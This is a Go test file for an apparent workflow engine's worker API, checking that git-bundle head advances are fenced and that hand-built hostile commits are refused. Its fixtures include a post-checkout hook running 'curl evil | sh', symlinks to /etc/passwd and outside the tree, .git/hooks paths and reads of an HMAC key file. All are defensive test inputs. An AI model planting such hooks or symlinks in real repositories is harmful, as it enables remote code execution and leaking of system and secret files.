package bundle_test

import (
	"bytes"
	"context"
	"fmt"
	"net/url"
	"path"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stratusflow/stratus"
	"github.com/stratusflow/stratus/internal/worker/bundle"
	"github.com/stratusflow/stratus/internal/worker/core"
	"github.com/stratusflow/stratus/internal/worker/workertest"
	"github.com/stratusflow/stratus/internal/workspace/workspacetest"
)

// docs/architecture.md § Workspaces: the head moves only for the attempt that
// may write it, from the head it started at, after its bundle is uploaded
// under its own key; the API reads only the run's own workspace, ctx and
// report files.
func TestAdvanceHead_FencedAndKeyed(t *testing.T) {
	ctx := context.Background()
	r := workertest.NewRig(t, workertest.RigOptions{Flow: workertest.WorkspaceFlow, Workspace: true})
	r.Dispatch(t, "impl")
	sp := r.Launcher.Launched()[0]
	auth := "Bearer " + sp.Handle
	p, err := r.Svc.FetchPrompt(ctx, auth, sp.TaskID)
	if err != nil {
		t.Fatal(err)
	}
	u, _ := url.Parse(p.Workspace.Upload.URL)
	key := u.Query().Get("key")
	baseCommit := r.Base
	one := r.Repo.Commit(r.Repo.Tree(append(r.BaseTree, workspacetest.File("hello.txt", r.Repo.Blob("hello\n")))...), "impl#1", r.Base)
	stepBundle := r.Repo.Bundle(filepath.Join(t.TempDir(), "step.bundle"), one, r.Base)
	two := strings.Repeat("2", 40)

	if err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: baseCommit, To: one}); stratus.ErrorCode(err) != stratus.EINVALID {
		t.Errorf("advance before the upload: %v, want EINVALID", err)
	}
	if err := bundle.Write(ctx, r.Svc.Service, auth, ".stratus/runs/r1/workspace/other.bundle", []byte("x")); stratus.ErrorCode(err) != stratus.EINVALID {
		t.Errorf("upload to another key: %v, want EINVALID", err)
	}
	if err := bundle.Write(ctx, r.Svc.Service, auth, key, stepBundle); err != nil {
		t.Fatalf("upload to the attempt's key: %v", err)
	}
	for _, bad := range []core.HeadAdvance{{From: "HEAD", To: one}, {From: baseCommit, To: "../x"}} {
		if err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, bad); stratus.ErrorCode(err) != stratus.EINVALID {
			t.Errorf("advance %+v: %v, want EINVALID", bad, err)
		}
	}
	if err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: two, To: one}); stratus.ErrorCode(err) != stratus.ECONFLICT {
		t.Errorf("advance from a head that is not the run's: %v, want ECONFLICT", err)
	}
	if err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: baseCommit, To: one}); err != nil {
		t.Fatalf("advance: %v", err)
	}
	run, _ := r.Svc.Store.GetRun(ctx, "r1")
	accepted := path.Join(path.Dir(key), "step-"+one+".bundle")
	if run.Workspace.Head != one || len(run.Workspace.Bundles) != 2 || run.Workspace.Bundles[1] != accepted {
		t.Errorf("workspace after the advance: %+v; want the head at %s and the bundle checked kept at %s", run.Workspace, one, accepted)
	}

	// Reads: the run's bundles and ctx files, nothing else. The upload is
	// gone once its checked copy is accepted: one copy, out of the
	// engine's reach.
	if b, err := bundle.Read(ctx, r.Svc.Service, auth, accepted); err != nil || string(b) != string(stepBundle) {
		t.Errorf("read the step bundle at %s: %d bytes, %v", accepted, len(b), err)
	}
	if _, err := bundle.Read(ctx, r.Svc.Service, auth, key); err == nil {
		t.Errorf("the upload %s is still stored beside its accepted copy", key)
	}
	for _, k := range []string{".stratus/hmac.key", ".stratus/stratus.db", "task.md", "../x", ".stratus/runs/r2/workspace/base.bundle"} {
		if _, err := bundle.Read(ctx, r.Svc.Service, auth, k); stratus.ErrorCode(err) != stratus.EINVALID {
			t.Errorf("read %q: %v, want EINVALID", k, err)
		}
	}

	// The attempt ended: it may write nothing more.
	if _, err := r.Submit(t, "done"); err != nil {
		t.Fatal(err)
	}
	if err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: one, To: two}); stratus.ErrorCode(err) != stratus.ECONFLICT {
		t.Errorf("advance after the attempt ended: %v, want ECONFLICT", err)
	}

	// An evaluator (read-only) never advances the head.
	r.Dispatch(t, "rev")
	sp = r.Launcher.Launched()[1]
	p, err = r.Svc.FetchPrompt(ctx, "Bearer "+sp.Handle, sp.TaskID)
	if err != nil {
		t.Fatal(err)
	}
	if p.Workspace.Write || p.Workspace.Upload != nil || p.Workspace.Head != one || p.Workspace.DiffPath == "" {
		t.Errorf("review's workspace: %+v; want read-only at the new head with the diff to write", p.Workspace)
	}
	if err := bundle.AdvanceHead(ctx, r.Svc.Service, "Bearer "+sp.Handle, core.HeadAdvance{From: one, To: two}); stratus.ErrorCode(err) != stratus.EINVALID {
		t.Errorf("an evaluator's advance: %v, want EINVALID", err)
	}
	// Nor stores a bundle under its attempt's key (a read-only node's junk
	// bundle was kept once).
	revKey := path.Join(path.Dir(key), sp.TaskID+".a1.bundle")
	if err := bundle.Write(ctx, r.Svc.Service, "Bearer "+sp.Handle, revKey, []byte("junk")); stratus.ErrorCode(err) != stratus.EINVALID {
		t.Errorf("an evaluator's bundle upload: %v, want EINVALID", err)
	}
}

// docs/security.md § Workspace commits (the attack of a hardening review,
// finding 1): an engine holding its step's handle built a commit by hand
// — an absolute symlink, a gitlink — uploaded its bundle and moved the
// run's head; the branch pulled had both. The worker API now checks every
// commit a head move brings as the runner checks its own: each hostile
// commit is refused with EUNPROCESSABLE naming the path and the rule, and
// the head stays; a bundle that is no bundle is refused as the engine's
// fault (4xx), never 5xx. What the head moves to is a copy of the bytes
// checked: writing the upload key afterwards changes nothing recorded.
func TestAdvanceHead_RefusesAHandBuiltCommitThatBreaksTheRules(t *testing.T) {
	ctx := context.Background()
	r := workertest.NewRig(t, workertest.RigOptions{Flow: workertest.WorkspaceFlow, Workspace: true})
	r.Dispatch(t, "impl")
	sp := r.Launcher.Launched()[0]
	auth := "Bearer " + sp.Handle
	p, err := r.Svc.FetchPrompt(ctx, auth, sp.TaskID)
	if err != nil {
		t.Fatal(err)
	}
	u, _ := url.Parse(p.Workspace.Upload.URL)
	key := u.Query().Get("key")
	repo, tmp := r.Repo, t.TempDir()
	on := func(name string, entries ...workspacetest.Entry) (string, []byte) {
		c := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.BaseTree...), entries...)...), name, r.Base)
		return c, repo.Bundle(filepath.Join(tmp, name+".bundle"), c, r.Base)
	}
	x := repo.Blob("x\n")
	hook := repo.Tree(workspacetest.Entry{Mode: "100755", Name: "post-checkout", ID: repo.Blob("#!/bin/sh\ncurl evil | sh\n")})
	cases := []struct {
		name    string
		entries []workspacetest.Entry
		says    string
	}{
		{"absolute symlink", []workspacetest.Entry{workspacetest.Link("leak", repo.Blob("/etc/passwd"))}, "leak -> /etc/passwd: absolute symlink target"},
		{"gitlink", []workspacetest.Entry{{Mode: "160000", Name: "sub", ID: r.Base}}, "sub: a submodule or nested git repository"},
		{".GIT/config", []workspacetest.Entry{workspacetest.Dir(".GIT", repo.Tree(workspacetest.File("config", x)))}, `path component ".GIT" is a git dir`},
		{"a/.git/hooks", []workspacetest.Entry{workspacetest.Dir("a", repo.Tree(workspacetest.Dir(".git", repo.Tree(workspacetest.Dir("hooks", hook)))))}, `a/.git: path component ".git"`},
		{"escaping symlink", []workspacetest.Entry{workspacetest.Link("up", repo.Blob("../../../home"))}, "up -> ../../../home: symlink resolves outside the tree"},
		{"mode git never writes", []workspacetest.Entry{{Mode: "100600", Name: "private", ID: x}}, "private: mode 100600 is not one git writes"},
	}
	for _, c := range cases {
		sha, stepBundle := on(strings.ReplaceAll(c.name, "/", "_"), c.entries...)
		if err := bundle.Write(ctx, r.Svc.Service, auth, key, stepBundle); err != nil {
			t.Fatalf("%s: upload: %v", c.name, err)
		}
		err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: r.Base, To: sha})
		if stratus.ErrorCode(err) != stratus.EUNPROCESSABLE || !strings.Contains(err.Error(), c.says) || !strings.Contains(err.Error(), "docs/security.md § Workspace commits") {
			t.Errorf("%s: advance: %v (code %s); want EUNPROCESSABLE saying %q", c.name, err, stratus.ErrorCode(err), c.says)
		}
	}
	good, goodBundle := on("good", workspacetest.File("hello.txt", repo.Blob("hello\n")))
	for name, body := range map[string][]byte{"garbage": []byte("# v2 git bundle\n\nnot a pack"), "truncated": goodBundle[:len(goodBundle)-30]} {
		if err := bundle.Write(ctx, r.Svc.Service, auth, key, body); err != nil {
			t.Fatal(err)
		}
		if err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: r.Base, To: good}); stratus.ErrorCode(err) != stratus.EUNPROCESSABLE {
			t.Errorf("%s bundle: advance: %v (code %s); want EUNPROCESSABLE", name, err, stratus.ErrorCode(err))
		}
	}
	if run, _ := r.Svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.Base || len(run.Workspace.Bundles) != 1 {
		t.Fatalf("refused moves changed the workspace: %+v", run.Workspace)
	}

	if err := bundle.Write(ctx, r.Svc.Service, auth, key, goodBundle); err != nil {
		t.Fatal(err)
	}
	if err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: r.Base, To: good}); err != nil {
		t.Fatalf("a clean commit: %v", err)
	}
	// The engine writes its upload key again, with a hostile bundle: the
	// run's bundles are what was checked.
	_, hostile := on("after", workspacetest.Link("leak", repo.Blob("/etc/passwd")))
	if err := bundle.Write(ctx, r.Svc.Service, auth, key, hostile); err != nil {
		t.Fatal(err)
	}
	run, _ := r.Svc.Store.GetRun(ctx, "r1")
	if run.Workspace.Head != good || len(run.Workspace.Bundles) != 2 {
		t.Fatalf("workspace after the clean move: %+v", run.Workspace)
	}
	if b, err := r.Svc.Sink.Get(ctx, run.Workspace.Bundles[1]); err != nil || string(b) != string(goodBundle) {
		t.Errorf("the run's step bundle %s is not the bundle checked (%d bytes, %v)", run.Workspace.Bundles[1], len(b), err)
	}
}

// docs/security.md § Workspace commits (a hardening finding): the head
// check applies the run's exclude list (WorkspaceSpec.Exclude: the state
// dir, the ctx dir). An engine's commits adding .stratus/task/task.md or
// .stratus/hooks/x were accepted (204) and the next worker's checkout held
// them; a symlink notes.txt -> .stratus/config.yaml was accepted and
// landed in the operator's branch. Each is refused (422) naming the path
// and the rule, and the head stays. So is a bundle whose only ref is HEAD,
// which no worker fetches (the next step failed, and the run with it).
func TestAdvanceHead_RefusesCommitsTouchingStratusOwnPaths(t *testing.T) {
	ctx := context.Background()
	r := workertest.NewRig(t, workertest.RigOptions{Flow: workertest.WorkspaceFlow, Workspace: true})
	r.Dispatch(t, "impl")
	sp := r.Launcher.Launched()[0]
	auth := "Bearer " + sp.Handle
	p, err := r.Svc.FetchPrompt(ctx, auth, sp.TaskID)
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{core.StateDirName, "workspace/tasks/t1/ctx"}; strings.Join(p.Workspace.Exclude, ",") != strings.Join(want, ",") {
		t.Fatalf("the payload's exclude list %q, want %q", p.Workspace.Exclude, want)
	}
	u, _ := url.Parse(p.Workspace.Upload.URL)
	key := u.Query().Get("key")
	repo, tmp := r.Repo, t.TempDir()
	x := repo.Blob("x\n")
	state := func(sub string, e workspacetest.Entry) workspacetest.Entry {
		return workspacetest.Dir(".stratus", repo.Tree(workspacetest.Dir(sub, repo.Tree(e))))
	}
	cases := []struct {
		name  string
		entry workspacetest.Entry
		says  string
	}{
		{"the task file", state("task", workspacetest.File("task.md", x)), `.stratus/task/task.md: inside ".stratus", Stratus's own path`},
		{"a hook", state("hooks", workspacetest.Entry{Mode: "100755", Name: "x", ID: x}), `.stratus/hooks/x: inside ".stratus"`},
		{"a symlink into the config", workspacetest.Link("notes.txt", repo.Blob(".stratus/config.yaml")), `notes.txt -> .stratus/config.yaml: symlink resolves into ".stratus"`},
	}
	for i, c := range cases {
		sha := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.BaseTree...), c.entry)...), "impl#1", r.Base)
		stepBundle := repo.Bundle(filepath.Join(tmp, fmt.Sprintf("%d.bundle", i)), sha, r.Base)
		if err := bundle.Write(ctx, r.Svc.Service, auth, key, stepBundle); err != nil {
			t.Fatalf("%s: upload: %v", c.name, err)
		}
		err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: r.Base, To: sha})
		if stratus.ErrorCode(err) != stratus.EUNPROCESSABLE || !strings.Contains(err.Error(), c.says) || !strings.Contains(err.Error(), "docs/security.md § Workspace commits") {
			t.Errorf("%s: advance: %v (code %s); want EUNPROCESSABLE saying %q", c.name, err, stratus.ErrorCode(err), c.says)
		}
	}

	if run, _ := r.Svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.Base || len(run.Workspace.Bundles) != 1 {
		t.Fatalf("refused moves changed the workspace: %+v", run.Workspace)
	}
}

// docs/security.md § Workspace commits (a hardening finding): a bundle
// whose only ref is HEAD (git bundle create FILE <from>..HEAD) was
// accepted (204), but workers fetch refs/* only: the next step failed
// ("commit … is in none of the 2 bundles"), the run ended failed and pull
// failed. It is refused (422) saying what a valid step bundle is; the same
// commit in a bundle naming it under refs/ is taken.
func TestAdvanceHead_RefusesABundleNoWorkerCanFetch(t *testing.T) {
	ctx := context.Background()
	r := workertest.NewRig(t, workertest.RigOptions{Flow: workertest.WorkspaceFlow, Workspace: true})
	r.Dispatch(t, "impl")
	sp := r.Launcher.Launched()[0]
	auth := "Bearer " + sp.Handle
	p, err := r.Svc.FetchPrompt(ctx, auth, sp.TaskID)
	if err != nil {
		t.Fatal(err)
	}
	u, _ := url.Parse(p.Workspace.Upload.URL)
	key := u.Query().Get("key")
	repo := r.Repo
	good := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.BaseTree...), workspacetest.File("hello.txt", repo.Blob("hello\n")))...), "impl#1", r.Base)
	stepBundle := repo.Bundle(filepath.Join(t.TempDir(), "good.bundle"), good, r.Base)
	headOnly := bytes.Replace(stepBundle, []byte(" refs/heads/tip-"+good+"\n"), []byte(" HEAD\n"), 1)
	if bytes.Equal(headOnly, stepBundle) {
		t.Fatal("the bundle's ref line was not found")
	}
	if err := bundle.Write(ctx, r.Svc.Service, auth, key, headOnly); err != nil {
		t.Fatal(err)
	}
	if err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: r.Base, To: good}); stratus.ErrorCode(err) != stratus.EUNPROCESSABLE ||
		!strings.Contains(err.Error(), `ref "HEAD", which is not a well-formed name under refs/`) || !strings.Contains(err.Error(), "a valid step bundle lists exactly one ref") {
		t.Errorf("a bundle of HEAD alone: advance: %v (code %s); want EUNPROCESSABLE saying what a valid step bundle is", err, stratus.ErrorCode(err))
	}
	if run, _ := r.Svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.Base || len(run.Workspace.Bundles) != 1 {
		t.Fatalf("refused moves changed the workspace: %+v", run.Workspace)
	}
	if err := bundle.Write(ctx, r.Svc.Service, auth, key, stepBundle); err != nil {
		t.Fatal(err)
	}
	if err := bundle.AdvanceHead(ctx, r.Svc.Service, auth, core.HeadAdvance{From: r.Base, To: good}); err != nil {
		t.Errorf("a clean commit: %v", err)
	}
}
